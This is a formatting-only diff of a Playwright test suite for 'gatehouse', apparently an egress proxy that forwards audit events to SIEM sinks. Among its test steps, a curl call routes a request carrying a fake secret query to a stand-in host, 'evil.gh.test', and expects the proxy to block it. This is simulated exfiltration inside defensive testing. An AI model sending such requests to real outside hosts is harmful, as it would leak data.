@@ -36,7 +36,10 @@ async function scrapedLag(sink: string): Promise<number | undefined> {
 test.beforeAll(async () => {
   test.setTimeout(180_000);
   const state = readState();
-  const tlsOpts = { cert: fs.readFileSync(path.join(state.upstreamCertDir, "leaf.pem"), "utf8"), key: fs.readFileSync(path.join(state.upstreamCertDir, "leaf.key"), "utf8") };
+  const tlsOpts = {
+    cert: fs.readFileSync(path.join(state.upstreamCertDir, "leaf.pem"), "utf8"),
+    key: fs.readFileSync(path.join(state.upstreamCertDir, "leaf.key"), "utf8"),
+  };
   syslog = syslogReceiver(tlsOpts);
   webhook = webhookReceiver(tlsOpts, SECRET);
   otlp = otlpReceiver();
@@ -85,7 +88,16 @@ async function traffic(n: number): Promise<void> {
     token = s.stdout.trim();
   }
   for (let i = 0; i < n; i++) {
-    const r = await run("curl", ["-sS", "-o", "/dev/null", "-w", "%{http_code}", "-x", `http://session:${token}@127.0.0.1:${g.proxyPort}`, `http://evil.gh.test/stream-${i}?q=secret-query-not-real`]);
+    const r = await run("curl", [
+      "-sS",
+      "-o",
+      "/dev/null",
+      "-w",
+      "%{http_code}",
+      "-x",
+      `http://session:${token}@127.0.0.1:${g.proxyPort}`,
+      `http://evil.gh.test/stream-${i}?q=secret-query-not-real`,
+    ]);
     expect(r.stdout).toBe("403");
   }
   const refused = await fetch(`${g.baseURL}/api/v1/policy`, { headers: { authorization: "Bearer gh_not_a_real_key_at_all" } });
@@ -95,7 +107,9 @@ async function traffic(n: number): Promise<void> {
 
 /** The CLI without blocking this process, which hosts the receivers (`gatehouseCli` waits synchronously). */
 async function cliAsync(args: string[]): Promise<{ code: number | null; stderr: string }> {
-  const r = await run(process.execPath, [path.join(__dirname, "..", "bin", "gatehouse.js"), ...args], { env: g.env as Record<string, string> });
+  const r = await run(process.execPath, [path.join(__dirname, "..", "bin", "gatehouse.js"), ...args], {
+    env: g.env as Record<string, string>,
+  });
   return { code: r.status, stderr: r.stderr };
 }
 
@@ -141,7 +155,11 @@ test("every event of a run reaches syslog, the webhook and OTLP, with ids and ha
   expect(everything).not.toContain(SECRET);
   const list = gatehouseCli(g, ["sink", "list", "--json"]);
   expect(list.stdout).not.toContain(SECRET);
-  expect(JSON.parse(list.stdout).map((s: { name: string; secretSet: boolean }) => [s.name, s.secretSet])).toEqual([["siem-syslog", false], ["siem-webhook", true], ["otel", false]]);
+  expect(JSON.parse(list.stdout).map((s: { name: string; secretSet: boolean }) => [s.name, s.secretSet])).toEqual([
+    ["siem-syslog", false],
+    ["siem-webhook", true],
+    ["otel", false],
+  ]);
   expect(g.output()).not.toContain(SECRET);
 });
 
@@ -149,7 +167,9 @@ test("a receiver that is down lags, shows its error, and catches up with nothing
   await webhook.stop();
   await traffic(3);
   await expect
-    .poll(() => JSON.parse(gatehouseCli(g, ["sink", "list", "--json"]).stdout).find((s: { name: string }) => s.name === "siem-webhook"), { timeout: 20_000 })
+    .poll(() => JSON.parse(gatehouseCli(g, ["sink", "list", "--json"]).stdout).find((s: { name: string }) => s.name === "siem-webhook"), {
+      timeout: 20_000,
+    })
     .toMatchObject({ lastError: expect.stringContaining("ECONNREFUSED"), lag: { events: expect.any(Number) } });
   const lagging = JSON.parse(gatehouseCli(g, ["sink", "list", "--json"]).stdout).find((s: { name: string }) => s.name === "siem-webhook");
   expect(lagging.lag.events).toBeGreaterThan(0);
@@ -164,13 +184,22 @@ test("a receiver that is down lags, shows its error, and catches up with nothing
   await allArrive(webhook, exported());
   checkChain(webhook);
   expect(webhook.problems).toEqual([]);
-  await expect.poll(() => JSON.parse(gatehouseCli(g, ["sink", "list", "--json"]).stdout).find((s: { name: string }) => s.name === "siem-webhook").lag.events).toBe(0);
+  await expect
+    .poll(
+      () =>
+        JSON.parse(gatehouseCli(g, ["sink", "list", "--json"]).stdout).find((s: { name: string }) => s.name === "siem-webhook").lag.events,
+    )
+    .toBe(0);
   expect(await scrapedLag("siem-webhook")).toBe(0);
   expect(await scrapedLag("otel")).toBe(0);
 });
 
 test("a wrong signing secret is refused by the receiver and shows as the sink's error; test events and removal", async () => {
-  const add = gatehouseCli(g, ["sink", "add", "--name", "wrong-key", "--type", "webhook", "--url", `https://localhost:${webhook.port}/ingest`, "--start-at", "now"], "whsec-some-other-secret-not-real\n");
+  const add = gatehouseCli(
+    g,
+    ["sink", "add", "--name", "wrong-key", "--type", "webhook", "--url", `https://localhost:${webhook.port}/ingest`, "--start-at", "now"],
+    "whsec-some-other-secret-not-real\n",
+  );
   expect(add.code, add.stderr).toBe(0);
   const test1 = await cliAsync(["sink", "test", "wrong-key"]);
   expect(test1.code).toBe(1);
@@ -192,7 +221,10 @@ test("cursors survive a restart: events written while it was down are sent, the 
   await g.stop();
   // The CLI writes to the same data directory while the server is down.
   for (let i = 0; i < 3; i++) expect(gatehouseCli(g, ["apikey", "create", "--name", `offline${i}`, "--role", "auditor"]).code).toBe(0);
-  g = await startGatehouse({ ...env, PORT: String(g.port), GATEHOUSE_PROXY_PORT: String(g.proxyPort), GATEHOUSE_DATA_DIR: g.dataDir }, { build: false });
+  g = await startGatehouse(
+    { ...env, PORT: String(g.port), GATEHOUSE_PROXY_PORT: String(g.proxyPort), GATEHOUSE_DATA_DIR: g.dataDir },
+    { build: false },
+  );
   const want = exported();
   for (const r of [syslog, webhook, otlp]) await allArrive(r, want);
   // At least once: a batch in flight at the stop may come again, but not the whole log.
